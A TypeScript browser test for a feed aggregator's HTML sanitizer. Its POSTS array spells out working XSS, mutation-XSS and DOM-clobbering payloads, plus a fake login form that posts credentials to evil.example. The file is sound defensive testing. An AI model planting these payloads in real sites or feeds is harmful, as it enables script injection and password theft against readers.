/**
 * Hostile posts on a real planet page (issue 13): a feed full of XSS, mutation-XSS, form and
 * DOM-clobbering payloads is parsed by parse(), rendered by buildSite into a temporary site,
 * served from 127.0.0.1 and loaded in Debian's Chromium. Nothing may run, no form or password
 * field may appear, and document.body/forms/cookie and the page's own elements must still be
 * what they were. A control build of the same feed unsanitized shows the checks can fail.
 */
import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { bestText, type Entry } from '../../src/model/feed.js';
import type { StoredEntry, StoredFeed } from '../../src/model/stored.js';
import { parse } from '../../src/parse/index.js';
import { buildSite } from '../../src/render/build-site.js';
import { createMemorySource } from '../../src/render/memory-source.js';
import { sanitizeHtml } from '../../src/sanitize/index.js';
import { CHROMIUM, hasChromium, launchChromium } from './chromium.js';
import { type StaticServer, serveStatic } from './static-server.js';

const FEED_URL = 'https://hostile.example/feed.xml';
const NOW = new Date('2024-05-02T12:00:00Z');
/** Where every payload would send what it steals: no request may ever reach it. */
const EVIL = 'evil.example';

/** [title, HTML content] of each hostile post. */
const POSTS: [string, string][] = [
  [
    'Your session expired',
    `<p>Log in again to keep reading.</p>
<form action="https://${EVIL}/steal" method="post" name="login" id="login">
  <fieldset><legend>Planet login</legend>
  <label for="u">User</label> <input id="u" name="user" autofocus>
  <label for="p">Password</label> <input id="p" type="password" name="password">
  <select name="remember"><option>yes</option></select> <textarea name="note">note</textarea>
  <button type="submit" formaction="https://${EVIL}/steal2">Log in</button>
  <input type="image" src="https://${EVIL}/pixel.png"></fieldset>
</form>
<div contenteditable="true" tabindex="1" accesskey="s">Type your password here</div>`,
  ],
  [
    'Clobbering the page',
    `<p>Named elements that would shadow what the page's scripts read.</p>
<img name="body" src="b.png" alt="b"> <img name="cookie" src="c.png" alt="c">
<img name="forms" src="f.png" alt="f"> <img name="getElementById" src="g.png" alt="g">
<form name="attributes"><input name="attributes"></form>
<a id="main" href="https://hostile.example/main">main</a> <a id="CONFIG" name="url" href="https://${EVIL}/config">config</a>
<h2 id="e1">fake entry heading</h2> <div id="search">fake search</div>
<p>Footnote<sup id="fnref1"><a href="#fn1">1</a></sup>.</p><ol><li id="fn1">The note. <a href="#fnref1">back</a></li></ol>`,
  ],
  [
    'Scripts in disguise',
    `<p>Script payloads.</p>
<script>alert('script')</script><img src="x.png" onerror="alert('onerror');fetch('https://${EVIL}/x')">
<svg onload="alert('svg')"><a xlink:href="javascript:alert('xlink')"><text>svg link</text></a><set attributeName="href" to="javascript:alert('set')"/></svg>
<a href="javascript:alert('js')">js</a> <a href="&#106;avascript:alert('entity')">entity</a>
<a href="java&#x09;script:alert('tab')">tab</a> <a href="&nbsp;javascript:alert('nbsp')">nbsp</a>
<iframe srcdoc="<script>alert('srcdoc')</script>" src="https://${EVIL}/frame"></iframe>
<object data="https://${EVIL}/o.swf"></object><embed src="https://${EVIL}/e.swf">
<meta http-equiv="refresh" content="0;url=https://${EVIL}/refresh"><base href="javascript:alert('base')//">
<link rel="stylesheet" href="https://${EVIL}/x.css"><style>@import url(https://${EVIL}/y.css); body{background:url(https://${EVIL}/z)}</style>
<div style="background:url(https://${EVIL}/bg);width:expression(alert('css'))">styled</div>
<a href="#x" ping="https://${EVIL}/ping">ping</a> <details open ontoggle="alert('toggle')"><summary>s</summary>d</details>`,
  ],
  [
    'Mutation XSS',
    `<p>Parser-differential payloads (DOMPurify's regressions).</p>
<svg></p><style><a id="</style><img src=1 onerror=alert('mxss1')>">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=alert('mxss2')&gt;">
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert('mxss3')>
<noscript><p title="</noscript><img src=x onerror=alert('mxss4')>"></noscript>
<svg><p><style><g title="</style><img src=x onerror=alert('mxss5')>"></g></style></p></svg>
<xmp><img src=x onerror=alert('xmp')></xmp> <textarea><img src=x onerror=alert('textarea')></textarea>`,
  ],
];

function hostileFeed(posts: [string, string][] = POSTS): Uint8Array {
  const xml = (s: string) =>
    s.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;');
  const entries = posts.map(
    ([title, html], i) => `<entry>
  <id>tag:hostile.example,2024:${i}</id>
  <title type="html">${xml(`${title}<img src=x onerror="alert('title')">`)}</title>
  <link href="/posts/${i}"/>
  <updated>2024-05-0${1 + (i % 2)}T0${i}:00:00Z</updated>
  <content type="html">${xml(html)}</content>
</entry>`,
  );
  return new TextEncoder().encode(`<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom">
  <title>Hostile blog</title><id>tag:hostile.example,2024:feed</id>
  <link href="https://hostile.example/"/><updated>2024-05-02T00:00:00Z</updated>
${entries.join('\n')}
</feed>`);
}

/**
 * The one place this test meets render/: parsed entries → a one-feed site built by buildSite
 * into `out`. (render/ is being reworked; adapt here if its options change.)
 */
async function buildHostileSite(out: string, entries: Entry[], themeDir?: string): Promise<void> {
  const feed: StoredFeed = {
    id: 1,
    url: FEED_URL,
    name: 'Hostile blog',
    section: 'main',
    active: true,
    title: 'Hostile blog',
    siteLink: 'https://hostile.example/',
    hubs: [],
    validators: {},
    consecutiveFailures: 0,
    previousUrls: [],
    retired: false,
    entryCount: entries.length,
    createdAt: '2024-01-01T00:00:00Z',
  };
  const stored: StoredEntry[] = entries.map((e, i) => {
    const date = e.updated ?? NOW.toISOString();
    return {
      id: i + 1,
      feedId: 1,
      key: `id:${e.id}`,
      link: e.link,
      fingerprint: `fp-${i}`,
      title: e.title,
      titleDetail: e.titleDetail,
      content: bestText(e),
      categories: e.categories,
      enclosures: e.enclosures,
      updated: e.updated,
      date,
      firstSeenAt: date,
      lastSeenAt: date,
    };
  });
  await buildSite({
    source: createMemorySource({ feeds: [feed], entries: stored }),
    site: {
      name: 'Planet Example',
      link: 'https://planet.example.org/',
      outputDir: out,
      timezone: 'UTC',
      dateFormat: '%d %b %Y',
      timeFormat: '%H:%M',
      itemsPerPage: 60,
      daysPerPage: 10,
      sections: [{ id: 'main', title: 'Planet Example' }],
      ...(themeDir ? { themeDir } : {}),
    },
    now: NOW,
  });
}

/** What a payload could have done to a page, as the page sees it. */
interface Probe {
  bodyIsTheBody: boolean;
  formsIsACollection: boolean;
  forms: number;
  cookieIsAString: boolean;
  attributesIsAMap: boolean;
  getElementByIdIsNative: boolean;
  mainIsTheMain: boolean;
  entryAnchorsAreThePages: boolean;
  windowConfig: string;
  controls: number;
  passwordFields: number;
  focusTakers: number;
  scriptLinks: number;
  idsOutsideNamespace: number;
  activeElement: string;
  title: string;
}

function probe(page: Page): Promise<Probe> {
  return page.evaluate(() => {
    const headings = Array.from(
      document.querySelectorAll('h2.entry-title, h3.entry-title, h4.entry-title'),
    );
    return {
      bodyIsTheBody:
        document.body instanceof HTMLBodyElement &&
        document.body === document.documentElement.lastElementChild,
      formsIsACollection: document.forms instanceof HTMLCollection,
      forms: document.querySelectorAll('form').length,
      cookieIsAString: typeof document.cookie === 'string',
      attributesIsAMap: document.body.attributes instanceof NamedNodeMap,
      getElementByIdIsNative: Document.prototype.getElementById === document.getElementById,
      mainIsTheMain: Document.prototype.getElementById.call(document, 'main')?.tagName === 'MAIN',
      entryAnchorsAreThePages:
        headings.length > 0 &&
        headings.every((h) => Document.prototype.getElementById.call(document, h.id) === h),
      windowConfig: typeof (window as unknown as { CONFIG?: unknown }).CONFIG,
      controls: document.querySelectorAll(
        'input, button, select, textarea, option, fieldset, label, datalist, output, keygen',
      ).length,
      passwordFields: document.querySelectorAll('input[type=password]').length,
      focusTakers: document.querySelectorAll(
        '[autofocus], [contenteditable], [tabindex], [accesskey]',
      ).length,
      scriptLinks: Array.from(document.querySelectorAll('a[href], area[href]')).filter(
        (a) => (a as HTMLAnchorElement).protocol === 'javascript:',
      ).length,
      idsOutsideNamespace: Array.from(
        document.querySelectorAll('.content [id], .content [name]'),
      ).filter(
        (e) =>
          ![e.getAttribute('id'), e.getAttribute('name')].every(
            (v) => v === null || v === '' || v.startsWith('user-content-'),
          ),
      ).length,
      activeElement: document.activeElement?.tagName ?? '',
      title: document.title,
    };
  });
}

if (!hasChromium) {
  console.warn(`browser tests skipped: ${CHROMIUM} is missing (apt-get install chromium)`);
}

describe.skipIf(!hasChromium)(
  'hostile posts in Chromium (skipped without /usr/bin/chromium)',
  () => {
    let dir: string;
    let safe: StaticServer;
    let unsafe: StaticServer;
    let browser: Browser;
    let entries: Entry[];

    beforeAll(async () => {
      dir = await mkdtemp(join(tmpdir(), 'orrery-hostile-'));
      const bytes = hostileFeed();
      entries = parse(bytes, { url: FEED_URL }).entries;
      expect(entries).toHaveLength(POSTS.length);
      await buildHostileSite(join(dir, 'safe'), entries);
      // Control: the form, clobbering and mutation-XSS posts with sanitizing off (markup as
      // given). The post with a <meta> refresh and a <base> is left out: it would navigate away.
      // Its theme lifts the pages' Content-Security-Policy too, which would stop the scripts.
      const control = hostileFeed(POSTS.filter(([title]) => title !== 'Scripts in disguise'));
      const lax = join(dir, 'lax-theme');
      await mkdir(join(lax, 'partials'), { recursive: true });
      await writeFile(
        join(lax, 'partials', 'csp.liquid'),
        "default-src * 'unsafe-inline' 'unsafe-eval'",
      );
      await buildHostileSite(
        join(dir, 'unsafe'),
        parse(control, { url: FEED_URL, sanitize: false }).entries,
        lax,
      );
      safe = await serveStatic(join(dir, 'safe'), '/planet/');
      unsafe = await serveStatic(join(dir, 'unsafe'), '/planet/');
      browser = await launchChromium();
    });

    afterAll(async () => {
      await browser?.close();
      await safe?.close();
      await unsafe?.close();
      if (dir) await rm(dir, { recursive: true, force: true });
    });

    /** Load a page, recording dialogs, console output and every request leaving 127.0.0.1. */
    async function load(server: StaticServer, path: string) {
      const page = await browser.newPage();
      const dialogs: string[] = [];
      const foreign: string[] = [];
      page.on('dialog', (d) => {
        dialogs.push(d.message());
        void d.dismiss();
      });
      await page.route(/^(?!http:\/\/127\.0\.0\.1[:/])/, (route) => {
        foreign.push(`${route.request().resourceType()} ${route.request().url()}`);
        return route.fulfill({ status: 404, body: '' });
      });
      const response = await page.goto(new URL(path, server.url).href, { timeout: 20_000 });
      expect(response?.status()).toBe(200);
      await page.waitForLoadState('load', { timeout: 20_000 });
      // Let error events of failed images and any queued payload fire.
      await page.waitForTimeout(300);
      return { page, dialogs, foreign };
    }

    it('sanitized output is stable: sanitizing it again changes nothing', () => {
      for (const e of entries) {
        const html = bestText(e)?.value ?? '';
        expect(sanitizeHtml(html)).toBe(html);
      }
    });

    for (const path of [
      'index.html',
      'archive/2024/05/01/index.html',
      'archive/2024/05/02/index.html',
    ]) {
      it(`${path}: nothing runs, no form, the page's own objects untouched`, async () => {
        const { page, dialogs, foreign } = await load(safe, path);
        // The posts are there (the checks below look at real hostile content).
        const content = await page.locator('.content').allTextContents();
        expect(content.join(' ')).toMatch(
          /Log in again|Named elements|Script payloads|Parser-differential/,
        );
        const p = await probe(page);
        expect(dialogs).toEqual([]);
        expect(foreign.filter((r) => r.includes(EVIL))).toEqual([]);
        expect(foreign.filter((r) => !r.startsWith('image '))).toEqual([]);
        expect(p).toEqual({
          bodyIsTheBody: true,
          formsIsACollection: true,
          forms: 0,
          cookieIsAString: true,
          attributesIsAMap: true,
          getElementByIdIsNative: true,
          mainIsTheMain: true,
          entryAnchorsAreThePages: true,
          windowConfig: 'undefined',
          controls: 0,
          passwordFields: 0,
          focusTakers: 0,
          scriptLinks: 0,
          idsOutsideNamespace: 0,
          activeElement: 'BODY',
          title: expect.not.stringMatching(/PWNED/),
        });
        await page.close();
      });
    }

    it('footnote links of a post still work, inside the namespace', async () => {
      const { page } = await load(safe, 'index.html');
      const link = page.locator('.content a[href="#user-content-fn1"]');
      expect(await link.count()).toBe(1);
      await link.click();
      expect(await page.evaluate(() => location.hash)).toBe('#user-content-fn1');
      expect(await page.evaluate(() => document.querySelector(':target')?.textContent)).toContain(
        'The note.',
      );
      await page.close();
    });

    it("the search page's script finds the hostile posts and shows them inertly", async () => {
      const { page, dialogs, foreign } = await load(safe, 'search/index.html');
      await page.locator('#search input').fill('clobbering');
      const result = page.locator('.pagefind-ui__result-link').first();
      await result.waitFor({ timeout: 20_000 });
      expect(await result.getAttribute('href')).toContain('/planet/archive/2024/05/02/');
      expect(await page.locator('.pagefind-ui__results').textContent()).toMatch(/clobbering/i);
      await page.waitForTimeout(300);
      expect(dialogs).toEqual([]);
      expect(foreign).toEqual([]);
      expect(
        await page.evaluate(() => document.getElementById('search')?.className.split(' ')[0]),
      ).toBe('search');
      await page.close();
    });

    it('control: the same feed unsanitized trips the checks (they can fail)', async () => {
      const { page, dialogs } = await load(unsafe, 'index.html');
      const p = await probe(page);
      expect(dialogs.length).toBeGreaterThan(0);
      expect(p.bodyIsTheBody).toBe(false);
      expect(p.passwordFields).toBeGreaterThan(0);
      expect(p.getElementByIdIsNative).toBe(false);
      expect(p.windowConfig).not.toBe('undefined');
      expect(p.idsOutsideNamespace).toBeGreaterThan(0);
      await page.close();
    });
  },
);
